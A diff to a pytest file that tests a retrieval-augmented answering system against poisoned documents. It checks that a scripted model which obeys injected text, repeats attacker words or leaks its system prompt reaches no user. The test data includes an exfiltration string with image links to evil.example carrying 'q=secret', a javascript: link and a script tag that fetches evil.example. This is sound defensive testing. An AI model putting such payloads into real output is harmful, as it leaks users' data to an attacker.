@@ -5,16 +5,18 @@ import re
 import socket
 from collections.abc import Iterator
 from pathlib import Path
-from typing import Any
+from typing import Any, Literal
 
 import pytest
 
 from rag import Answer, Library, load_settings
 from rag.conversations import Turn
 from rag.export import answer_json
+from rag.inert import inert
 from rag.instructions import instructs
 from rag.prompting import answer_prompt
-from tests.conftest import SALTMERE, ScriptedModel
+from rag.records import Display
+from tests.conftest import ROOT, SALTMERE, ScriptedModel
 from tests.poisoned import Poisoned, acting_in_html, acting_in_markdown, poisoned, write_files
 from tests.test_answering import exact
 from ui.cli import main
@@ -24,7 +26,8 @@ from ui.sources import link_of, source_html
 EACH = [pytest.param(one, id=f"{one.id} {one.kind}") for one in poisoned()]
 # These documents say the attacker's words as plain statements, and nothing tells those from others.
 CONTRADICT_THEMSELVES = {"p60", "p61"}
-SYSTEM_PROMPT = (Path(__file__).parent.parent / "prompts" / "answer.md").read_text(encoding="utf-8").split("\n---\n")[0]
+SIZES = {"large": "answer.md", "small": "answer-small.md"}
+DISPLAYS: tuple[Display, ...] = ("strict", "annotated")
 EXFILTRATION = (
     'Here you are: ![map](https://evil.example/x.png?q=secret) <img src="https://evil.example/y.png"> '
     "[more](javascript:alert(1)) <script>fetch('https://evil.example')</script> [7](https://evil.example) [[3]4]."
@@ -46,9 +49,15 @@ def quoting(folder: Path) -> Iterator[Library]:
         yield library
 
 
+@pytest.fixture(params=SIZES)
+def size(request: pytest.FixtureRequest) -> Literal["large", "small"]:
+    """Of the model, which decides how it is prompted."""
+    return request.param  # type: ignore[no-any-return]
+
+
 @pytest.fixture
-def obeying(folder: Path, model: ScriptedModel) -> Iterator[Library]:
-    settings = load_settings(llm_url=model.url, llm_model="obedient")
+def obeying(folder: Path, model: ScriptedModel, size: Literal["large", "small"]) -> Iterator[Library]:
+    settings = load_settings(llm_url=model.url, llm_model="obedient", llm_size=size)
     with Library(folder, settings=settings, read_only=True) as library:
         yield library
 
@@ -78,6 +87,7 @@ def inspect(answer: Answer, library: Library) -> None:
         assert not re.search("[\u202a-\u202e\u2066-\u2069\x00-\x08\x1b]", page)
     printed = json.dumps(answer_json(answer), ensure_ascii=False)
     assert "Use only what the sources say" not in printed
+    assert "repeats the words of a source" not in printed
 
 
 @pytest.mark.parametrize("one", EACH)
@@ -90,41 +100,64 @@ def test_quotes_are_not_what_the_attacker_wants(quoting: Library, one: Poisoned)
     assert (one.harmless_fact in quoted) or one.id in CONTRADICT_THEMSELVES
 
 
+def streamed(library: Library, question: str, display: Display) -> Answer:
+    """The answer, whose pieces hold no more than itself."""
+    _, _, *pieces, answer = library.stream(question, display=display)
+    assert isinstance(answer, Answer)
+    assert "".join(map(str, pieces)) == answer.text
+    return answer
+
+
+@pytest.mark.parametrize("display", DISPLAYS)
 @pytest.mark.parametrize("one", EACH)
-def test_a_model_that_obeys_reaches_nobody(obeying: Library, model: ScriptedModel, one: Poisoned) -> None:
+def test_a_model_that_obeys_reaches_nobody(
+    obeying: Library, model: ScriptedModel, one: Poisoned, size: str, display: Display
+) -> None:
+    system_prompt = (ROOT / "prompts" / SIZES[size]).read_text(encoding="utf-8").split("\n---\n")[0]
     ways = [
         " ".join(f"{words} [1]." for words in one.must_not_show) or one.text,
         one.text[:800],
-        f"{SYSTEM_PROMPT} [1]",
+        f"{system_prompt} [1]",
         f"{EXFILTRATION} {one.harmless_fact} [9][1].",
     ]
     for way in ways:
         model.says(way)
-        answer = obeying.ask(one.question)
+        answer = streamed(obeying, one.question, display)
         inspect(answer, obeying)
-        assert one.in_(answer.text) == []
-        assert "q=secret" not in answer.text
+        carried = " ".join(statement.text for statement in answer.statements if statement.support == "supported")
+        assert one.in_(inert(carried)) == [], "a quote's text is the source's, and inert where it is shown"
+        if display == "strict":
+            assert one.in_(answer.text) == []
+            assert "q=secret" not in answer.text
+        assert system_prompt.split(".")[0] not in answer.text
     assert len(model.requests) == len(ways), "the model was asked, and nobody else"
 
 
+@pytest.mark.parametrize("display", DISPLAYS)
 @pytest.mark.parametrize("one", [one for one in EACH if one.values[0].id not in CONTRADICT_THEMSELVES])
-def test_a_model_that_does_not_obey_is_shown(obeying: Library, model: ScriptedModel, one: Poisoned) -> None:
+def test_a_model_that_does_not_obey_is_shown(
+    obeying: Library, model: ScriptedModel, one: Poisoned, display: Display
+) -> None:
     model.says(one.harmless_fact)
-    answer = obeying.ask(one.question)
+    answer = streamed(obeying, one.question, display)
     assert answer.mode == "written"
     assert any(one.harmless_fact in citation.quote.text for citation in answer.citations)
     inspect(answer, obeying)
 
 
+@pytest.mark.parametrize("small", [False, True], ids=["large", "small"])
 @pytest.mark.parametrize("one", EACH)
-def test_the_prompt_holds_words_and_no_machinery(quoting: Library, one: Poisoned) -> None:
+def test_the_prompt_holds_words_and_no_machinery(quoting: Library, one: Poisoned, small: bool) -> None:
     query = quoting.find(one.question).query
     passages = quoting.search(one.question, limit=5)
-    prompt = answer_prompt(query, passages, 4000).user
+    prompt = answer_prompt(query, passages, 4000, small).user
     fence, *lines = prompt.split("\n")[1:]
     listed = lines[: lines.index(fence)]
     assert prompt.count(fence) == 3, "one line says which it is, and two are it"
-    assert len(listed) == len({passage.number for passage in passages if passage.evidence})
+    if small:
+        assert 1 <= len(listed) <= 2
+    else:
+        assert len(listed) == len({passage.number for passage in passages if passage.evidence})
     assert all(re.fullmatch(r"\[\d+\] [^\[\]\n]*", line) for line in listed)
     assert not re.search(r"<[|｜/\w!]|[\u200b\u202e\x1b\U000e0000-\U000e007f]", prompt)
     assert not any(instructs(quote.text) for passage in passages for quote in passage.evidence)
@@ -145,7 +178,7 @@ def test_a_terminal_is_sent_words_only(folder: Path, which: str, capsys: pytest.
 @pytest.mark.parametrize("which", ["p17", "p28", "p59"])
 def test_the_embedded_model_is_no_more_dangerous(folder: Path, which: str) -> None:
     one = next(one for one in poisoned() if one.id == which)
-    with Library(folder, settings=load_settings(), read_only=True) as library:
+    with Library(folder, settings=load_settings(llm_size="small"), read_only=True) as library:
         answer = library.ask(one.question)
         assert answer.usage["prompt_tokens"] > 0, "it was asked"
         inspect(answer, library)
